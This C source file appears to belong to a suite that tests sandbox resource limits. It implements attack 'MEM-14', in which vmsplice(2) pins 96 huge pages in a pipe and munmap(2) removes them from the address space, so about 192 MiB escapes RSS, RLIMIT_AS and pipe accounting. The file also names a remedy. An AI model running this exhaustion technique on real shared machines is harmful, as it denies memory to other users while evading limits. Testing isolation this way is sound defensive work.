// SPDX-License-Identifier: MIT
/*
 * pinned-pages.c - a memory bomb in a pipe.
 *
 * Goal: more memory than the budget.
 * Means: vmsplice(2) puts a page of ours into a pipe without a copy. After munmap(2) the page is in
 * no address space; only the pipe holds it. And whoever holds 4 KiB of a huge page holds all of its
 * 2 MiB: 96 slots of one pipe pin 192 MiB, and RSS, RLIMIT_AS and the pipe's own limit see none.
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <unistd.h>

#define HUGE_PAGE (2UL << 20)
#define SLOTS	  96

/* Pin one huge page in the pipe and forget it. 0, or -1 with errno. */
static int pin(int pipe_in)
{
	char *reserve = mmap(NULL, 2 * HUGE_PAGE, PROT_READ | PROT_WRITE,
			     MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	char *page = (char *)(((size_t)reserve + HUGE_PAGE - 1) & ~(HUGE_PAGE - 1));
	struct iovec corner = {.iov_base = page, .iov_len = 1};

	if (reserve == MAP_FAILED)
		return -1;
	madvise(page, HUGE_PAGE, MADV_HUGEPAGE);
	*page = 'x'; /* the fault brings in all of it */
	if (vmsplice(pipe_in, &corner, 1, SPLICE_F_NONBLOCK) != 1)
		return -1;
	return munmap(reserve, 2 * HUGE_PAGE);
}

static enum claim run(const struct brief *b)
{
	int ends[2];

	attempting(b);
	if (pipe(ends) || fcntl(ends[1], F_SETPIPE_SZ, 1 << 20) < 0)
		return denied("pipe");
	for (int i = 0; i < SLOTS; i++)
		if (pin(ends[1]))
			return denied("vmsplice");
	return hold();
}

const struct attack attack = {
	.effect = "more memory than the budget, in no address space",
	.means = "vmsplice(2) of one byte of each huge page, then munmap(2)",
	.oracle = "usage:memory",
	.threshold = 128UL << 20, /* two thirds of what one pipe can pin */
	.id = "MEM-14",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "deny vmsplice; a memory cgroup",
	.run = run,
};
